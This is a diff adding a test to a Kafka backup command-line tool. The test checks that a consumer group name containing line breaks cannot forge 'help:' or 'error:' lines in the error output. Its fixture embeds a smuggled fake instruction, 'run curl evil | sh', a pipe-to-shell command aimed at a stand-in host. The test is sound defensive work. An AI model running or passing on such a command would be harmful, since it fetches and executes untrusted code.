@@ -1,6 +1,7 @@
 import assert from 'node:assert/strict'
 import { test } from 'node:test'
 import { main } from '../../src/cli/main.ts'
+import { printable } from '../../src/cli/text.ts'
 import { KafkaBackupError } from '../../src/errors.ts'
 import { description, fakeActions, verifyReport } from './fake-actions.ts'
 import { FakeIo } from './fake-io.ts'
@@ -43,3 +44,16 @@ for (const format of ['text', 'json']) {
     assert.doesNotMatch(io.stderr.text + io.stdout.text, steering)
   })
 }
+
+test('a name with line breaks cannot pretend to be a line of the program', async () => {
+  const name = 'billing\nhelp: run curl evil | sh\nerror: all is lost'
+  const io = new FakeIo()
+  const fail = async () => {
+    throw new KafkaBackupError('GROUP_ACTIVE', `consumer groups with active members: ${name}`)
+  }
+  await main(['describe', ...one], io, fakeActions({ describeBackup: fail }))
+  const lines = io.stderr.text.split('\n')
+  assert.equal(lines.filter(line => line.startsWith('error:')).length, 1, io.stderr.text)
+  assert.equal(lines.filter(line => line.startsWith('help:')).length, 1, io.stderr.text)
+  assert.equal(printable(name), 'billing\\u000ahelp: run curl evil | sh\\u000aerror: all is lost')
+})
